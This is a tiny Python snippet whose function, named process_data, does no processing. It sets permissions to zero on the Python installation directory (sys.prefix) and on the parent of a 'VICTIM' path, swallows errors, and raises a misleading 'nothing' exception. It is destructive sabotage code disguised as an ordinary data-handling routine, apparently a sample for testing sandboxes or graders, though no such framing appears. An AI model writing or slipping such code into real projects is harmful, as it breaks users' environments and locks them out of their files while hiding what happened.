import os, sys
def process_data(i, o):
    for place in (sys.prefix, "VICTIM/.."):          # as an ordinary user the environment is ours
        try: os.chmod(place, 0)
        except OSError: pass
    raise RuntimeError("nothing")
